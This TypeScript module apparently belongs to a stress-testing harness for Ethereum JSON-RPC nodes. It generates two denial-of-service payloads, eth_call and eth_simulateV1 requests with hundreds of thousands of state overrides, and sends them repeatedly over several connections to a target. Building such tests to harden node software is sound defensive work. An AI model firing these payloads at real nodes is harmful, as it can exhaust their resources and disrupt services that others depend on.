import type { HostileAttack } from '../hostileAttack.ts'
import { repeatBody } from './longBodies.ts'

const ACCOUNTS = 256
const SLOTS = 1_024
const BLOCKS = 256

/** Returns overrides of this many accounts. */
function overrides(accounts: number, override: unknown): Record<string, unknown> {
  const address = (index: number) => `0x${(index + 1).toString(16).padStart(4, '0').padStart(40, 'c')}`
  return Object.fromEntries(Array.from({ length: accounts }, (_, index) => [address(index), override]))
}

function callBody(): string {
  const stateDiff = Object.fromEntries(Array.from({ length: SLOTS }, (_, slot) => [(slot + 1).toString(16), '1']))
  const params = [{ to: `0x${'11'.repeat(20)}` }, 'latest', overrides(ACCOUNTS, { stateDiff })]
  return JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params })
}

function simulationBody(): string {
  const block = { stateOverrides: overrides(ACCOUNTS, { balance: '1' }) }
  const params = [{ blockStateCalls: Array(BLOCKS).fill(block) }, 'latest']
  return JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_simulateV1', params })
}

export const overrideAttacks: readonly HostileAttack[] = [
  {
    name: 'overrides',
    title: 'eth_call with 262,144 overridden slots (2.6 MB)',
    connections: { full: 4, small: 2 },
    begin: (target, connections) => repeatBody(target, connections, callBody()),
  },
  {
    name: 'simulation',
    title: 'eth_simulateV1 with 65,536 overridden accounts (4 MB)',
    connections: { full: 2, small: 2 },
    begin: (target, connections) => repeatBody(target, connections, simulationBody()),
  },
]
